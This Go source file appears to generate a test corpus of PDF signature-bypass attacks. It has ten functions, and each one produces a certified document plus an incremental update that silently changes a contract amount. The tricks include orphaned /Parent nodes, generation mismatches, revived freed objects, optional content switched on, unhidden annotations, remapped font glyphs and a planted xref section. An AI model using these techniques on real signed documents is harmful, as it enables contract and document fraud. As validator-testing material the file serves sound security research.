package attacks

import (
	"fmt"
	"strings"
)

// Class 2: unreachable means harmless. Viewers reach objects a walk of the
// document from its catalog may not: inherited page attributes through a
// /Parent outside the page tree, inherited field values through a /Parent
// outside the form, references whose generation does not match, references
// to free objects, optional content switched on, hidden annotations shown.
func class2() []spec {
	return []spec{
		{"c2-parent-outside-kids-xobject", "the annex page has no /Resources and its /Parent is a /Pages node outside the /Kids chain holding them; the attacker rewrites the XObject only that node reaches", c2ParentXObject},
		{"c2-parent-outside-kids-node", "the annex page's /Parent is a /Pages node outside the /Kids chain; the attacker rewrites that node's /Resources", c2ParentNode},
		{"c2-field-parent-outside-form", "a text field without /AP inherits its /V from a /Parent reachable only through /Parent; the attacker changes the parent's /V", c2FieldParent},
		{"c2-ref-generation-mismatch", "the page's /Contents refers to \"N 5 R\" while object N has generation 0 (readers that resolve by number draw it); the attacker rewrites object N", c2GenMismatch},
		{"c2-ref-to-undefined-object", "the page's /Contents lists a reference to an object number that did not exist when signed; the attacker defines it", c2RefUndefined},
		{"c2-freed-object-revived", "the page's /Contents lists an object that was freed (xref 'f' entry) before signing; the attacker defines it again", c2FreedRevived},
		{"c2-optional-content-switched-on", "cover-up content was planted in an optional content group that is OFF; the attacker turns the group on in /OCProperties", c2OCGOn},
		{"c2-hidden-annotation-shown", "a hidden (/F 2) stamp annotation with a cover-up appearance was planted on a certified document; the attacker clears the hidden flag", c2HiddenAnnot},
		{"c2-font-via-extgstate", "the amount line sets its font only through an ExtGState's /Font entry (gs, no Tf); the attacker rewrites that font with /Differences that draw 2 as 9", c2ExtGStateFont},
		{"c2-planted-section-activated", "an unused cross-reference stream giving the annex page from an object stream was planted before signing; the attacker's section (re-listing every other object) names it as /Prev", c2PlantedSection},
	}
}

// parentNode is a /Pages node outside the page tree holding the annex
// page's resources, with the Form XObject x as /Xa.
func (p *pks) parentNode(page, x uint32) string {
	return fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count 1 /Resources << /Font << /F1 %s /F2 %s >> /XObject << /Xa %s >> >> >>",
		ref(page), ref(p.helv), ref(p.helvB), ref(x))
}

// plantParent writes the annex page without resources whose /Parent is a
// node outside the tree; it returns the node and the XObject numbers.
func (p *pks) plantParent(u *upd) (node, x uint32) {
	node = u.alloc()
	pg := p.pageNum(u)
	x = u.add(p.xobject("", amountOps(OldAmount)))
	u.put(node, p.parentNode(pg, x))
	p.page4Cont = u.add(stream("", titleOps+"q /Xa Do Q\n"))
	p.addPage(u, "/Contents "+ref(p.page4Cont), node)
	return node, x
}

func c2ParentXObject(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	_, x := p.plantParent(u)
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(x, p.xobject("", amountOps(NewAmount)))
	c.File = a.finish("")
}

func c2ParentNode(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	node, _ := p.plantParent(u)
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	x2 := a.add(p.xobject("", amountOps(NewAmount)))
	a.put(node, p.parentNode(p.page4, x2))
	c.File = a.finish("")
}

func c2FieldParent(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	parent, w := u.alloc(), u.alloc()
	par := func(v string) string {
		return fmt.Sprintf("<< /FT /Tx /T (Nilai) /V (Nilai kontrak: %s) /DA (/Helv 11 Tf 0 g) /Kids [%s] >>", v, ref(w))
	}
	u.put(parent, par(OldAmount))
	u.put(w, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /Parent %s /Rect %s /F 4 /P %s /MK << /BG [1 1 1] >> >>",
		ref(parent), amountRect, ref(p.pageNum(u))))
	p.page4Cont = u.add(stream("", titleOps))
	p.addPage(u, fmt.Sprintf("/Resources %s /Contents %s /Annots [%s]", p.fontRes(), ref(p.page4Cont), ref(w)), 0)
	// The widget is listed in /Fields on its own: the parent holding the
	// value is reached only through its /Parent.
	p.setFields(u, []uint32{w}, p.drForm()+" /NeedAppearances true")
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(parent, par(NewAmount))
	c.File = a.finish("")
}

func c2GenMismatch(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	first := u.add(stream("", titleOps+amountOps(OldAmount)))
	n := u.add(stream("", "% catatan\n"))
	p.addPage(u, fmt.Sprintf("/Resources %s /Contents [%s %d 5 R]", p.fontRes(), ref(first), n), 0)
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(n, stream("", coverOps(NewAmount)))
	c.File = a.finish("")
}

func c2RefUndefined(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	first := u.add(stream("", titleOps+amountOps(OldAmount)))
	p.pageNum(u)
	n := u.alloc() + 40 // beyond /Size when signed
	p.addPage(u, fmt.Sprintf("/Resources %s /Contents [%s %s]", p.fontRes(), ref(first), ref(n)), 0)
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(n, stream("", coverOps(NewAmount)))
	c.File = a.finish("")
}

func c2FreedRevived(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	first := u.add(stream("", titleOps+amountOps(OldAmount)))
	n := u.add(stream("", "% catatan\n"))
	p.addPage(u, fmt.Sprintf("/Resources %s /Contents [%s %s]", p.fontRes(), ref(first), ref(n)), 0)
	p.commit(u)
	// A second prepared revision frees object n (next generation 1).
	f := newUpd(p.b)
	p.b = f.finishTable([]xent{{num: n, gen: 1, free: true}}, stdLine, "")
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(n, stream("", coverOps(NewAmount)))
	c.File = a.finish("")
}

func c2OCGOn(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	ocg := u.add("<< /Type /OCG /Name (Revisi) >>")
	d := u.alloc()
	u.put(d, fmt.Sprintf("<< /Order [%s] /OFF [%s] >>", ref(ocg), ref(ocg)))
	p.page4Cont = u.add(stream("", titleOps+amountOps(OldAmount)+"/OC /oc1 BDC\n"+coverOps(NewAmount)+"EMC\n"))
	p.addPage(u, fmt.Sprintf("/Resources << /Font << /F1 %s /F2 %s >> /Properties << /oc1 %s >> >> /Contents %s",
		ref(p.helv), ref(p.helvB), ref(ocg), ref(p.page4Cont)), 0)
	u.put(p.catalog, "<<"+inner(dictOf(p.b, p.catalog))+fmt.Sprintf(" /OCProperties << /OCGs [%s] /D %s >> >>", ref(ocg), ref(d)))
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(d, fmt.Sprintf("<< /Order [%s] /ON [%s] >>", ref(ocg), ref(ocg)))
	c.File = a.finish("")
}

func c2HiddenAnnot(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	an := u.alloc()
	ap := u.add(boxAppearance(p.helv, NewAmount))
	stamp := func(flags int) string {
		return fmt.Sprintf("<< /Type /Annot /Subtype /Stamp /Rect %s /F %d /P %s /AP << /N %s >> >>", amountRect, flags, ref(p.pageNum(u)), ref(ap))
	}
	u.put(an, stamp(2))
	p.plainPage(u, an)
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(an, stamp(4))
	c.File = a.finish("")
}

func c2PlantedSection(e Env, c *Case) {
	p := planted()
	u := newUpd(p.b)
	// Unused objects: a changed content stream, the changed annex page in
	// a compressed object stream without /Type (so that no rebuilding
	// reader takes it), and a cross-reference stream for it whose /Prev is
	// the prepared file's section (not the one they are in).
	evil := u.add(evilBody())
	stm := u.add(objStmFlateTyped([]member{{p.page4, format(with(dictOf(p.b, p.page4), "Contents", r(evil)))}}, ""))
	k := u.alloc()
	u.put(k, stream(fmt.Sprintf(" /Type /XRef /W [1 4 2] /Index [%d 1] /Size %d /Root %s /Prev %d", p.page4, k+1, ref(p.catalog), u.prev),
		string(xrefRows([]xrow{{num: p.page4, typ: 2, off: int64(stm)}}))))
	orphan := u.offs[k]
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	doc := open(c.Signed)
	a := newUpd(c.Signed)
	es := []xent{{num: 0, gen: 65535, free: true}}
	for n := uint32(1); n < a.next; n++ {
		if loc := doc.Locate(n); n != p.page4 && loc.Ok && loc.Offset > 0 {
			es = append(es, xent{num: n, off: loc.Offset})
		}
	}
	tr := a.trailerDict("")
	tr = tr[:strings.Index(tr, " /Prev ")] + fmt.Sprintf(" /Prev %d >>", orphan)
	x := a.at()
	a.raw("xref\n" + tableText(es, stdLine) + "trailer\n" + tr + "\n")
	a.raw(fmt.Sprintf("startxref\n%d\n%%%%EOF\n", x))
	c.File = a.b
}

func c2ExtGStateFont(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	font := u.add(plainFont)
	ops := fmt.Sprintf("q /GS1 gs BT %d %d Td (Nilai kontrak: %s) Tj ET Q\n", amountX, amountY, OldAmount)
	p.page4Cont = u.add(stream("", titleOps+ops))
	p.addPage(u, fmt.Sprintf("/Resources << /Font << /F1 %s /F2 %s >> /ExtGState << /GS1 << /Type /ExtGState /Font [%s 11] >> >> >> /Contents %s",
		ref(p.helv), ref(p.helvB), ref(font), ref(p.page4Cont)), 0)
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(font, nineFont)
	c.File = a.finish("")
}
